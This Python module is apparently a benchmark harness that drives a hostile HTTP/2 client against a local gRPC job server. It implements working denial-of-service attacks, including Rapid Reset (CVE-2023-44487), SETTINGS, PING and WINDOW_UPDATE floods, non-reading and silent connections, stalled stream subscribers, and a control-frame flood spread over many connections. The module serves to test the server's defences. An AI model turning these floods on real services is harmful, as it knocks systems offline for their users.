"""A hostile HTTP/2 client for the under-attack scenario: raw frames on 127.0.0.1.

    python -m bench.attacker --target 127.0.0.1:PORT [--max-connections N] [--deadline S]

It speaks HTTP/2 frame by frame (hyperframe, hpack), so it can do what no
client library lets it: reset streams before they start, flood control
frames, never send the preface, never read. Commands are JSON lines
(bench/common.py):

- `{"cmd": "start", "attack": NAME, "seconds": S}` starts one attack in the
  background; it ends by itself after S seconds (at most MAX_SECONDS) or
  after `--max-connections` connections, whichever comes first;
- `{"cmd": "result"}` answers `{"running": bool, "record": {...}}`: what the
  server answered each connection (GOAWAY code and debug data, or a close
  without GOAWAY, or nothing before the end), how long until it did, how
  many times the attacker had to reconnect, and how many frames it sent.

When the server closes a connection, the attacker opens a new one and goes
on, so every attack lasts its whole window.
"""

from __future__ import annotations

import argparse
import functools
import socket
import statistics
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

import trio
import trio.lowlevel
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hpack import Encoder
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from bench.common import answer_commands, emit, run_child
from jobsignal._proto.job import ClientInfo, Status

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# No attack runs longer than this, whatever it is asked.
MAX_SECONDS = 60.0
# Frames per write in a flood (one send call), and HEADERS + RST_STREAM pairs
# per write in Rapid Reset.
FLOOD_BATCH = 500
RESET_PAIRS = 100
# Seconds to wait for the close after a GOAWAY, and to drain what a peer that
# never read has been sent.
CLOSE_WAIT = 2.0
DRAIN_WAIT = 0.2
# Attack (6): connections flooding SETTINGS without reading, as in the report.
SETTINGS_WRITERS = 4
# Attack (7): connections that never send the preface.
SILENT_CONNECTIONS = 200
# Attack (8): FdAgent subscriptions on the peer that never reads, a whole
# role's 20 slots (each gets the snapshot of every job, so the server's
# socket buffers fill within seconds).
STALLED_STREAMS = 20
# Seconds between the stalled peer's probes for the server's reset.
STALL_PROBE_INTERVAL = 0.1
# Attack (9): connections that each send control frames at a pace under one
# connection's budget (--max-control-frames-per-second, 500 by default), so
# that only a budget of the whole address sees their sum; from an address of
# their own, as an attacker's would be, not the healthy clients' 127.0.0.1.
SPREAD_CONNECTIONS = 500
SPREAD_RATE = 450  # frames per second, each connection
SPREAD_TICK = 0.05  # seconds between one connection's writes
SPREAD_SOURCE = "127.0.0.2"
# A receive buffer that fills fast, for the peers that do not read.
SMALL_RECEIVE_BUFFER = 4096
# Linux TCP_INFO: the first byte is the connection state; these two mean the
# peer has closed or reset it.
_TCP_CLOSE = 7
_TCP_CLOSE_WAIT = 8


def request_headers(authority: str, path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def grpc_message(payload: bytes) -> bytes:
    """One gRPC length-prefixed message (uncompressed)."""
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def _error_name(code: int) -> str:
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


class Wire:
    """One raw HTTP/2 connection: frames out, the server's frames parsed in."""

    def __init__(self, sock: trio.socket.SocketType, authority: str, opened: float) -> None:
        self.sock = sock
        self.stream = trio.SocketStream(sock)
        self.authority = authority
        self.opened = opened
        self.encoder = Encoder()
        self.next_stream_id = 1
        self.goaway: GoAwayFrame | None = None
        self.goaway_at: float | None = None
        self.closed_at: float | None = None
        self.reset = False
        self.answered = trio.Event()  # GOAWAY received or connection closed
        self.closed = trio.Event()
        self.data: dict[int, bytearray] = {}
        # RST_STREAM frames the server sent, by error code name.
        self.stream_resets: Counter[str] = Counter()
        self.ended: set[int] = set()
        self._buffer = bytearray()

    def new_stream_id(self) -> int:
        stream_id = self.next_stream_id
        self.next_stream_id += 2
        return stream_id

    def headers(self, stream_id: int, path: str, *, end_stream: bool = False) -> HeadersFrame:
        frame = HeadersFrame(stream_id)
        frame.data = self.encoder.encode(request_headers(self.authority, path))
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame

    async def send(self, frames: list[Frame | bytes]) -> int:
        """Send frames (and raw bytes) in one write; the number of bytes."""
        data = b"".join(f if isinstance(f, bytes) else f.serialize() for f in frames)
        await self.stream.send_all(data)
        return len(data)

    # -- reading ---------------------------------------------------------------------------------

    async def receive(self) -> bool:
        """Read once and parse; False once the server has closed the connection."""
        try:
            chunk = await self.stream.receive_some(65536)
        except trio.BrokenResourceError as error:
            self.reset = isinstance(error.__cause__, ConnectionResetError)
            chunk = b""
        except trio.ClosedResourceError:
            chunk = b""
        if not chunk:
            self.mark_closed()
            return False
        self._buffer += chunk
        self._parse()
        return True

    async def read_until_closed(self) -> None:
        while await self.receive():
            pass

    async def drain(self, seconds: float = DRAIN_WAIT) -> None:
        """Parse what the server has sent so far (for peers that did not read)."""
        with trio.move_on_after(seconds):
            await self.read_until_closed()

    def mark_closed(self) -> None:
        if self.closed_at is None:
            self.closed_at = trio.current_time()
        self.answered.set()
        self.closed.set()

    def _parse(self) -> None:
        while len(self._buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(bytes(self._buffer[:9])))
            if len(self._buffer) < 9 + length:
                return
            frame.parse_body(memoryview(bytes(self._buffer[9 : 9 + length])))
            del self._buffer[: 9 + length]
            if isinstance(frame, GoAwayFrame) and self.goaway is None:
                self.goaway = frame
                self.goaway_at = trio.current_time()
                self.answered.set()
            elif isinstance(frame, RstStreamFrame):
                self.stream_resets[_error_name(frame.error_code)] += 1
            elif isinstance(frame, DataFrame):
                self.data.setdefault(frame.stream_id, bytearray()).extend(frame.data)
            if isinstance(frame, HeadersFrame | DataFrame) and "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)

    def closed_by_peer(self) -> bool:
        """Whether the server has closed or reset the connection, without reading from it."""
        info = self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)
        return info[0] in (_TCP_CLOSE, _TCP_CLOSE_WAIT)

    def answer(self) -> str:
        """What the server answered, in words for the report."""
        if self.goaway is not None:
            name = _error_name(self.goaway.error_code)
            debug = bytes(self.goaway.additional_data).decode(errors="replace")
            return f"GOAWAY {name} {debug}".rstrip()
        if self.closed_at is not None:
            return "reset without GOAWAY" if self.reset else "closed without GOAWAY"
        return "still open at the end"


@dataclass
class Record:
    """What one attack did and what the server answered."""

    attack: str
    seconds: float
    max_connections: int
    started: float = 0.0
    finished: float | None = None
    # Connections the attack keeps open at once; every one beyond is a reconnect.
    parallel: int = 1
    connections: int = 0
    frames_sent: int = 0
    bytes_sent: int = 0
    answers: Counter[str] = field(default_factory=Counter)
    stream_resets: Counter[str] = field(default_factory=Counter)
    to_goaway: list[float] = field(default_factory=list)
    to_close: list[float] = field(default_factory=list)
    errors: Counter[str] = field(default_factory=Counter)

    @property
    def deadline(self) -> float:
        return self.started + self.seconds

    def more(self) -> bool:
        """Whether the attack may open another connection."""
        return trio.current_time() < self.deadline and self.connections < self.max_connections

    def finish(self, wire: Wire) -> None:
        self.answers[wire.answer()] += 1
        self.stream_resets.update(wire.stream_resets)
        if wire.goaway_at is not None:
            self.to_goaway.append(wire.goaway_at - wire.opened)
        if wire.closed_at is not None:
            self.to_close.append(wire.closed_at - wire.opened)

    def summary(self) -> dict[str, Any]:
        elapsed = (self.finished or trio.current_time()) - self.started
        return {
            "attack": self.attack,
            "seconds": elapsed,
            "connections": self.connections,
            "parallel": self.parallel,
            "reconnects": max(0, self.connections - self.parallel),
            "frames_sent": self.frames_sent,
            "frames_per_second": self.frames_sent / elapsed if elapsed > 0 else 0.0,
            "bytes_sent": self.bytes_sent,
            "answers": dict(self.answers),
            "stream_resets": dict(self.stream_resets),
            "to_goaway_s": _spread(self.to_goaway),
            "to_close_s": _spread(self.to_close),
            "errors": dict(self.errors),
        }


def _spread(values: list[float]) -> dict[str, float] | None:
    if not values:
        return None
    return {"median": statistics.median(values), "min": min(values), "max": max(values)}


Attack = Callable[["Attacker", Record], Awaitable[None]]


class Attacker:
    def __init__(self, args: argparse.Namespace) -> None:
        host, port = args.target.rsplit(":", 1)
        self.host = host
        self.port = int(port)
        self.authority = args.target
        self.max_connections: int = args.max_connections
        self.record: Record | None = None
        self.running = False

    # -- commands --------------------------------------------------------------------------------

    def handle(self, command: dict[str, Any], nursery: trio.Nursery) -> dict[str, Any]:
        name = command["cmd"]
        if name == "start":
            if self.running:
                return {"error": "an attack is running"}
            attack = ATTACKS.get(command["attack"])
            if attack is None:
                return {"error": f"unknown attack {command['attack']!r}"}
            seconds = min(float(command["seconds"]), MAX_SECONDS)
            self.record = Record(command["attack"], seconds, self.max_connections)
            self.running = True
            nursery.start_soon(self._run, attack, self.record)
            return {"ok": True}
        if name == "result":
            record = self.record.summary() if self.record else None
            return {"running": self.running, "record": record}
        return {"error": f"unknown command {name!r}"}

    async def _run(self, attack: Attack, record: Record) -> None:
        record.started = trio.current_time()
        try:
            with trio.move_on_at(record.deadline + CLOSE_WAIT + 1):
                await attack(self, record)
        finally:
            record.finished = trio.current_time()
            self.running = False

    async def main(self) -> None:
        async with trio.open_nursery() as nursery:
            emit({"ready": True})
            await answer_commands(functools.partial(self.handle, nursery=nursery))
            nursery.cancel_scope.cancel()

    # -- connections -----------------------------------------------------------------------------

    async def connect(
        self, record: Record, receive_buffer: int | None = None, source: str | None = None
    ) -> Wire | None:
        record.connections += 1
        sock = trio.socket.socket(trio.socket.AF_INET, trio.socket.SOCK_STREAM)
        if receive_buffer is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        try:
            if source is not None:
                await sock.bind((source, 0))
            await sock.connect((self.host, self.port))
        except OSError as error:
            sock.close()
            record.errors[f"connect: {type(error).__name__}"] += 1
            await trio.sleep(0.01)  # a refused connect must not spin
            return None
        return Wire(sock, self.authority, trio.current_time())

    async def send(self, record: Record, wire: Wire, frames: list[Frame | bytes]) -> bool:
        """Send frames; False if the server has closed the connection."""
        try:
            record.bytes_sent += await wire.send(frames)
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            wire.mark_closed()
            return False
        record.frames_sent += sum(1 for f in frames if not isinstance(f, bytes))
        return True

    async def handshake(self, record: Record, wire: Wire, **settings: int) -> bool:
        frame = SettingsFrame(0)
        frame.settings = {getattr(SettingCodes, k.upper()): v for k, v in settings.items()}
        return await self.send(record, wire, [PREFACE, frame])

    # -- flood driver ----------------------------------------------------------------------------

    async def flood(
        self,
        record: Record,
        batch: Callable[[Wire], list[Frame | bytes]],
        *,
        opening: Callable[[Wire], list[Frame | bytes]] | None = None,
        workers: int = 1,
        reads: bool = True,
        receive_buffer: int | None = None,
        pace: float = 0.0,
        source: str | None = None,
    ) -> None:
        """`workers` connections sending `batch()` as fast as they can (or one
        every `pace` seconds), each reconnecting whenever the server closes it,
        until the attack ends; from the address `source`, if given."""
        record.parallel = workers

        async def worker() -> None:
            while record.more():
                wire = await self.connect(record, receive_buffer, source)
                if wire is None:
                    continue
                try:
                    await self._flood_one(record, wire, batch, opening, reads, pace)
                finally:
                    record.finish(wire)
                    wire.sock.close()

        async with trio.open_nursery() as nursery:
            for _ in range(workers):
                nursery.start_soon(worker)

    async def _flood_one(
        self,
        record: Record,
        wire: Wire,
        batch: Callable[[Wire], list[Frame | bytes]],
        opening: Callable[[Wire], list[Frame | bytes]] | None,
        reads: bool,
        pace: float,
    ) -> None:
        async with trio.open_nursery() as nursery:
            if reads:
                nursery.start_soon(wire.read_until_closed)
            with trio.move_on_at(record.deadline):
                sending = await self.handshake(record, wire)
                if sending and opening is not None:
                    sending = await self.send(record, wire, opening(wire))
                next_write = trio.current_time()
                while sending and not wire.answered.is_set():
                    sending = await self.send(record, wire, batch(wire))
                    if pace:
                        next_write += pace
                        await trio.sleep_until(next_write)
            if reads:
                # The server answered (or the window ended): wait for the close.
                with trio.move_on_after(CLOSE_WAIT if wire.answered.is_set() else 0):
                    await wire.closed.wait()
            nursery.cancel_scope.cancel()
        if not reads:
            await wire.drain()

    # -- the attacks -----------------------------------------------------------------------------

    async def rapid_reset(self, record: Record) -> None:
        """(1) HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487)."""

        def pairs(wire: Wire) -> list[Frame | bytes]:
            frames: list[Frame | bytes] = []
            for _ in range(RESET_PAIRS):
                stream_id = wire.new_stream_id()
                frames.append(wire.headers(stream_id, "/job.Job/Register"))
                frames.append(RstStreamFrame(stream_id, error_code=ErrorCodes.CANCEL))
            return frames

        await self.flood(record, pairs)

    async def settings_flood(self, record: Record) -> None:
        """(2) Empty SETTINGS frames, each owed an ACK."""
        await self.flood(record, lambda wire: [SettingsFrame(0) for _ in range(FLOOD_BATCH)])

    async def ping_flood(self, record: Record) -> None:
        """(3) PING frames, each owed an ACK."""
        counter = iter(range(1 << 62))

        def pings(wire: Wire) -> list[Frame | bytes]:
            return [
                PingFrame(0, opaque_data=next(counter).to_bytes(8, "big"))
                for _ in range(FLOOD_BATCH)
            ]

        await self.flood(record, pings)

    async def window_update_flood(self, record: Record) -> None:
        """(4) WINDOW_UPDATE frames of one byte on the connection."""
        await self.flood(
            record,
            lambda wire: [WindowUpdateFrame(0, window_increment=1) for _ in range(FLOOD_BATCH)],
        )

    async def empty_data_flood(self, record: Record) -> None:
        """(5) One request stream left open, then DATA frames that carry nothing."""
        await self.flood(
            record,
            lambda wire: [DataFrame(1, b"") for _ in range(FLOOD_BATCH)],
            opening=lambda wire: [wire.headers(wire.new_stream_id(), "/job.Job/Register")],
        )

    async def settings_no_read(self, record: Record) -> None:
        """(6) Four connections flooding SETTINGS that never read the ACKs (the
        original report: the loop at 100 % and a healthy subscriber at 1.7 s)."""
        await self.flood(
            record,
            lambda wire: [SettingsFrame(0) for _ in range(FLOOD_BATCH)],
            workers=SETTINGS_WRITERS,
            reads=False,
            receive_buffer=SMALL_RECEIVE_BUFFER,
        )

    async def spread_control_flood(self, record: Record) -> None:
        """(9) Many connections, each sending one-byte WINDOW_UPDATEs (nothing to
        answer) under its own control-frame budget: together far above it."""
        per_write = round(SPREAD_RATE * SPREAD_TICK)
        await self.flood(
            record,
            lambda wire: [WindowUpdateFrame(0, window_increment=1) for _ in range(per_write)],
            workers=SPREAD_CONNECTIONS,
            pace=SPREAD_TICK,
            source=SPREAD_SOURCE,
        )

    async def silent(self, record: Record) -> None:
        """(7) Connections that never send the preface, each reopened when closed."""

        async def one() -> None:
            while record.more():
                wire = await self.connect(record)
                if wire is None:
                    continue
                try:
                    with trio.move_on_at(record.deadline):
                        await wire.read_until_closed()
                finally:
                    record.finish(wire)
                    wire.sock.close()

        record.parallel = SILENT_CONNECTIONS
        async with trio.open_nursery() as nursery:
            for _ in range(SILENT_CONNECTIONS):
                nursery.start_soon(one)

    async def stalled_subscriber(self, record: Record) -> None:
        """(8) Windows opened wide, FdAgent subscriptions (snapshots), then no reading."""
        while record.more():
            wire = await self.connect(record, SMALL_RECEIVE_BUFFER)
            if wire is None:
                continue
            try:
                with trio.move_on_at(record.deadline):
                    await self._stall_one(record, wire)
            finally:
                if wire.closed_at is not None:
                    await wire.drain()
                record.finish(wire)
                wire.sock.close()

    async def _stall_one(self, record: Record, wire: Wire) -> None:
        big = 2**31 - 1
        if not await self.handshake(
            record, wire, initial_window_size=big, max_frame_size=2**24 - 1
        ):
            return
        if not await self.send(record, wire, [WindowUpdateFrame(0, window_increment=big - 65535)]):
            return
        # Register each subscription's id (reading the answers), then subscribe.
        client_ids = []
        for _ in range(STALLED_STREAMS):
            stream_id = wire.new_stream_id()
            body = grpc_message(bytes(ClientInfo(role="FdAgent")))
            frames: list[Frame | bytes] = [
                wire.headers(stream_id, "/job.Job/Register"),
                DataFrame(stream_id, body, flags=["END_STREAM"]),
            ]
            if not await self.send(record, wire, frames):
                return
            while stream_id not in wire.ended:
                if not await wire.receive():
                    return
            reply = bytes(wire.data.get(stream_id, b""))
            client_ids.append(Status.parse(reply[5:]).client_id)
        for client_id in client_ids:
            stream_id = wire.new_stream_id()
            body = grpc_message(bytes(ClientInfo(role="FdAgent", client_id=client_id)))
            frames = [
                wire.headers(stream_id, "/job.Job/SubscribeJobSummarySignal"),
                DataFrame(stream_id, body, flags=["END_STREAM"]),
            ]
            if not await self.send(record, wire, frames):
                return
        # From here on nothing is read: wait for the server to give up on us. A
        # server that closes a socket it cannot write to sends no FIN (the data
        # before it cannot go either); the small PRIORITY frame written now and
        # then is what makes its kernel answer with a reset once it has let go.
        probe = PriorityFrame(stream_id, depends_on=0, stream_weight=16)
        while not wire.closed_by_peer():
            if not await self.send(record, wire, [probe]):
                break
            await trio.sleep(STALL_PROBE_INTERVAL)
        wire.reset = True
        wire.mark_closed()


ATTACKS: dict[str, Attack] = {
    "rapid_reset": Attacker.rapid_reset,
    "settings_flood": Attacker.settings_flood,
    "ping_flood": Attacker.ping_flood,
    "window_update_flood": Attacker.window_update_flood,
    "empty_data_flood": Attacker.empty_data_flood,
    "settings_no_read": Attacker.settings_no_read,
    "silent": Attacker.silent,
    "stalled_subscriber": Attacker.stalled_subscriber,
    "spread_control_flood": Attacker.spread_control_flood,
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--target", required=True)
    parser.add_argument(
        "--max-connections", type=int, default=20_000, help="connections per attack, at most"
    )
    run_child(parser, lambda args: trio.run(Attacker(args).main))


if __name__ == "__main__":
    main()
